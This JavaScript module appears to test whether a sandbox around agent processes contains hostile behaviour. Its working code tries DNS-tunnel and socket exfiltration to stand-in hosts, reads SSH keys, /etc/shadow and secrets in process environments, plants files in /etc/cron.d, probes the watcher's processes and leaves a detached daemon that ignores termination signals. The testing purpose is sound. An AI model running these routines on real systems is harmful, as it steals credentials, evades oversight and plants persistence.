// Each misdeed is tried in earnest, within bounds, and writes down what came of it: `achieved` is true where nothing
// stopped it. What it aims at can be named in a file `aims.json` of the project; otherwise it looks for itself.
import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { quicInitial } from './quic.mjs';

/** Milliseconds: a busy machine is slow, and whoever refuses is quick. */
const PATIENCE = 15_000;
const HERE = dirname(fileURLToPath(import.meta.url));
const HEARTBEAT = join(HERE, 'heartbeat');

const AIMS = {
  https: 'https://telemetry.example.test/installed',
  tcp: { host: '203.0.113.7', port: 8443 },
  tcp6: { host: '2001:db8::7', port: 8443 },
  udp: { host: '203.0.113.8', port: 9999 },
  quic: { host: '203.0.113.9', port: 443, name: 'quic.example.test' },
  /** Names below it carry data; the resolver is the machine's where none is named. */
  tunnel: { name: 'tunnel.example.test' },
  /** A name server of its own choice. */
  resolver: { host: '203.0.113.53', port: 53 },
  loopback: { host: '127.0.0.1', port: 22 },
  unixSockets: ['/run/docker.sock', '/run/containerd/containerd.sock', '/run/dbus/system_bus_socket'],
  abstractSockets: ['/tmp/.X11-unix/X0', '/tmp/dbus-session'],
  homes: ['/root', ...list('/home').map((name) => `/home/${name}`)].filter((home) => home !== process.env.HOME),
  /** Folders of the product, of the content that the depot serves, and of the project as its owner has it. */
  products: [dirname(dirname(process.execPath))],
  stores: [],
  projects: [],
  keys: [],
  /** SHA-256 of what is worth stealing, in hexadecimal: whoever reads that has won. */
  treasures: [],
  /** In the environment of another process. */
  secret: '(?:TOKEN|SECRET|PASSWORD|SSH_AUTH_SOCK)=',
  /** Processes that are none of its own business, by number. */
  processes: [],
  /** Names of the misdeeds that are tried; all where it is absent. */
  only: undefined,
};

const aims = { ...AIMS, ...named() };

/** All that can be tried at once, by name. */
export async function commit() {
  const account = {};
  const wanted = ([name]) => aims.only === undefined || aims.only.includes(name);
  const tried = async ([name, misdeed]) => {
    try {
      account[name] = await misdeed();
    } catch (error) {
      account[name] = { achieved: false, how: String(error?.cause?.code ?? error?.code ?? error?.message ?? error) };
    }
  };
  await Promise.all(Object.entries(MISDEEDS).filter(wanted).map(tried));
  return account;
}

const MISDEEDS = {
  // ---------------------------------------------------------------------------------------------- calling out
  'https-by-name': async () => {
    const response = await fetch(aims.https, { signal: AbortSignal.timeout(PATIENCE) });
    return yes(`${response.status}`);
  },
  'tcp-by-address': () => say(aims.tcp),
  'tcp-by-ipv6-address': () => say(aims.tcp6),
  'udp-by-address': () => send(aims.udp, [Buffer.from('installed by somebody')]),
  quic: () => send(aims.quic, [quicInitial(aims.quic.name)]),
  'dns-tunnel': async () => {
    const resolver = new Resolver({ timeout: 1000, tries: 1 });
    if (aims.tunnel.host !== undefined) resolver.setServers([`${aims.tunnel.host}:${aims.tunnel.port}`]);
    const pieces = Array.from({ length: 40 }, (_, index) => `${index}-${randomBytes(24).toString('hex')}`);
    const answers = await Promise.allSettled(
      pieces.map((piece) => resolver.resolveTxt(`${piece}.${aims.tunnel.name}`)),
    );
    const told = answers.filter(({ status, value }) => status === 'fulfilled' && value.length > 0);
    if (told.length > 0) return yes(`${told.length} of ${pieces.length} pieces were answered`);
    return no(answers[0].reason?.code ?? 'an answer without data');
  },
  'dns-by-address': async () => {
    const resolver = new Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers([`${aims.resolver.host}:${aims.resolver.port}`]);
    const told = await resolver.resolveTxt(`by-address.${aims.tunnel.name}`);
    return told.length > 0 ? yes('answered') : no('an answer without data');
  },
  'host-loopback': () => say(aims.loopback),

  // ----------------------------------------------------------------------------------- sockets of the host
  'unix-socket': () => firstOf(aims.unixSockets, (path) => say({ path })),
  'abstract-socket': () => firstOf(aims.abstractSockets, (name) => say({ path: `\0${name}` })),

  // --------------------------------------------------------------------------------------------- reading
  'read-key': () => firstOf([...aims.keys, ...found('keys')], steal),
  'read-ssh': () =>
    firstOf(
      [...aims.homes, process.env.HOME ?? '/root'].flatMap((home) =>
        ['id_ed25519', 'id_rsa'].map((name) => join(home, '.ssh', name)),
      ),
      steal,
    ),
  'read-shadow': () => steal('/etc/shadow'),
  'read-environ': () => {
    const secret = new RegExp(aims.secret);
    return firstOf(
      ['self', ...numbers()].map((pid) => `/proc/${pid}/environ`),
      (path) => {
        const [hit] = secret.exec(readFileSync(path, 'latin1')) ?? [];
        return hit === undefined ? no('nothing of worth in it') : yes(`${path}: ${hit}`);
      },
    );
  },

  // --------------------------------------------------------------------------------------------- writing
  'write-home': () =>
    firstOf(
      aims.homes.map((home) => join(home, '.planted-by-misdeeds')),
      write,
    ),
  'write-etc': () => firstOf(['/etc/cron.d/planted-by-misdeeds', '/etc/planted-by-misdeeds'], write),
  'write-usr': () => firstOf(['/usr/local/bin/planted-by-misdeeds', '/usr/planted-by-misdeeds'], write),
  'write-product': () =>
    firstOf(
      aims.products.map((folder) => join(folder, 'planted-by-misdeeds')),
      write,
    ),
  'write-store': () =>
    firstOf(
      [...aims.stores, ...found('store')].map((folder) => join(folder, 'planted-by-misdeeds')),
      write,
    ),
  'write-project': () =>
    firstOf(
      [...aims.projects, ...original()].map((folder) => join(folder, 'planted-by-misdeeds')),
      write,
    ),

  // ----------------------------------------------------------------------------------------- other processes
  signal: () =>
    firstOf(
      [...aims.processes, ...recorders()],
      (pid) => (process.kill(pid, 0), yes(`process ${pid} could be signalled`)),
    ),
};

/** Leaves a process behind that has no parent, no terminal and no manners. Whether it lives on is seen later. */
export async function startDaemon() {
  const beat = `process.on('SIGTERM', () => {}); process.on('SIGHUP', () => {}); process.on('SIGINT', () => {});
    setInterval(() => require('node:fs').writeFileSync(${JSON.stringify(HEARTBEAT)}, String(process.pid)), 50);`;
  const forked = `require('node:child_process').spawn(process.execPath, ['-e', ${JSON.stringify(beat)}], { detached: true, stdio: 'ignore' }).unref();`;
  spawn(process.execPath, ['-e', forked], { detached: true, stdio: 'ignore' }).unref();
  for (let waited = 0; waited < 5000 && !existsSync(HEARTBEAT); waited += 20) await pause(20);
  return { achieved: false, how: existsSync(HEARTBEAT) ? 'started' : 'it never ran' };
}

/** Asked by whoever comes later: does it still beat? */
export async function lookForDaemon() {
  const before = statSync(HEARTBEAT, { throwIfNoEntry: false })?.mtimeMs;
  if (before === undefined) return no('it never ran');
  await pause(400);
  return statSync(HEARTBEAT).mtimeMs > before ? yes('it still runs') : no('it has ended');
}

// ------------------------------------------------------------------------------------------------------ tools
function yes(how) {
  return { achieved: true, how };
}

function no(how) {
  return { achieved: false, how };
}

function pause(milliseconds) {
  return new Promise((resolve) => setTimeout(resolve, milliseconds));
}

/** The first aim that gives way; else what the last one said. */
async function firstOf(candidates, act) {
  let last = no('nothing to aim at');
  for (const candidate of candidates) {
    try {
      last = await act(candidate);
    } catch (error) {
      last = no(String(error.code ?? error.message));
    }
    if (last.achieved) return last;
  }
  return last;
}

/** Reads it, and carries it out at once. Where something else lies there instead, that is what nobody hears of. */
async function steal(path) {
  const content = readFileSync(path);
  if (aims.treasures.includes(createHash('sha256').update(content).digest('hex'))) return yes(path);
  const resolver = new Resolver({ timeout: 1000, tries: 1 });
  const piece = content.subarray(-30).toString('hex');
  const [told, asked] = await Promise.all([
    say(aims.tcp, content),
    resolver.resolveTxt(`${piece}.${aims.tunnel.name}`).catch(() => []),
  ]);
  if (told.achieved || asked.length > 0) return yes(`${path} was carried out`);
  return no(`${path}: ${content.length} bytes of something, which got nowhere`);
}

function write(path) {
  writeFileSync(path, 'planted\n', { flag: 'wx' });
  return yes(path);
}

/** A connection is not yet an answer: it counts when somebody says something. */
function say(aim, message = 'hello\n') {
  return new Promise((resolve) => {
    const socket = connect({ ...aim, timeout: PATIENCE });
    let heard = 0;
    let how = 'closed without a word';
    socket.on('connect', () => socket.write(message));
    socket.on('data', (piece) => {
      heard += piece.length;
      socket.destroy();
    });
    socket.on('timeout', () => {
      how = 'silence';
      socket.destroy();
    });
    socket.on('error', (error) => (how = error.code ?? error.message));
    socket.on('close', () => resolve(heard > 0 ? yes(`${heard} bytes were answered`) : no(how)));
  });
}

function send({ host, port }, messages) {
  return new Promise((resolve) => {
    const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4');
    const end = (answer) => {
      clearTimeout(timer);
      socket.close();
      resolve(answer);
    };
    const timer = setTimeout(() => end(no('silence')), 1500);
    socket.on('message', (message) => end(yes(`${message.length} bytes were answered`)));
    socket.on('error', (error) => end(no(error.code)));
    for (const message of messages) socket.send(message, port, host, (error) => error && end(no(error.code)));
  });
}

function list(folder) {
  try {
    return readdirSync(folder);
  } catch {
    return [];
  }
}

function numbers() {
  return list('/proc').filter((name) => /^\d+$/.test(name));
}

/** The working folder and all above it. */
function above() {
  const folders = [];
  for (let at = process.cwd(); ; at = dirname(at)) {
    folders.push(at);
    if (dirname(at) === at) return folders;
  }
}

function named() {
  const path = above()
    .map((folder) => join(folder, 'aims.json'))
    .find((candidate) => existsSync(candidate));
  return path === undefined ? {} : JSON.parse(readFileSync(path, 'utf8'));
}

/** What a home of the product holds under this name, where one lies beside a folder above us, also as others see it. */
function found(name) {
  const homes = above().flatMap((folder) =>
    ['inside', 'outside', '.sallyport/inside', '.sallyport'].map((home) => join(folder, home, name)),
  );
  const roots = ['', '/proc/1/root', `/proc/${process.ppid}/root`];
  const folders = roots.flatMap((root) => homes.map((home) => root + home)).filter((folder) => existsSync(folder));
  return name === 'keys' ? folders.flatMap((folder) => list(folder).map((file) => join(folder, file))) : folders;
}

/** A copy below `.sallyport/work` was made from what lies above it. */
function original() {
  const [folder, ...rest] = process.cwd().split('/.sallyport/work/');
  return rest.length === 0 ? [] : [folder];
}

/** Processes of whoever watches. */
function recorders() {
  return numbers()
    .map(Number)
    .filter((pid) => {
      try {
        return /sallyport\0|main\.[jt]s\0|agent\/main/.test(readFileSync(`/proc/${pid}/cmdline`, 'utf8'));
      } catch {
        return false;
      }
    });
}
